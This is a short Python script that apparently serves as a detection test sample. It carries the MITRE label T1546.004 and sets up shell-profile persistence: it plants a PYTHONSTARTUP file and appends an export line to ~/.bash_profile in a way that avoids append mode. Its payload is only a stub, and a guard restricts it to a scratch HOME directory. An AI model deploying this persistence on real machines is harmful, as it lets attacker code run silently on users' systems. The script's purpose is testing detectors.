# technique: T1546.004 T1546
"""Unix Shell Configuration Modification (T1546.004) used to set
PYTHONSTARTUP: every interactive python will run attacker code.

Writes the payload to ~/.config/python/startup.py with shutil.copy from a
temporary file, then appends `export PYTHONSTARTUP=...` to ~/.bash_profile
through a file object opened "r+" and seeked to the end (neither "a" nor
"w"). The finally step is an event-triggered execution (T1546) through
the Python interpreter's own start-up variable.

A good detector raises a medium or high alert: a shell start-up file is
modified, and a PYTHONSTARTUP file is planted.
"""
import os as _os, pwd as _pwd, sys as _sys  # noqa: E401 (safety guard, not part of the attack)
if _os.path.realpath(_os.path.expanduser("~")) == _os.path.realpath(_pwd.getpwuid(_os.getuid()).pw_dir):
    _sys.exit("this attack writes under HOME: run it with HOME set to a scratch directory")
import os
import shutil
import tempfile

home = os.path.expanduser("~")
profile = os.path.join(home, ".bash_profile")
if not os.path.exists(profile):
    open(profile, "w").close()
dest_dir = os.path.join(home, ".config", "python")
os.makedirs(dest_dir, exist_ok=True)
with tempfile.NamedTemporaryFile("w", suffix=".py", delete=False) as tmp:
    tmp.write("import os, socket\n# beacon would go here\n")
startup = os.path.join(dest_dir, "startup.py")
shutil.copy(tmp.name, startup)
os.unlink(tmp.name)
with open(profile, "r+") as f:
    f.seek(0, os.SEEK_END)
    f.write(f"\nexport PYTHONSTARTUP={startup}\n")
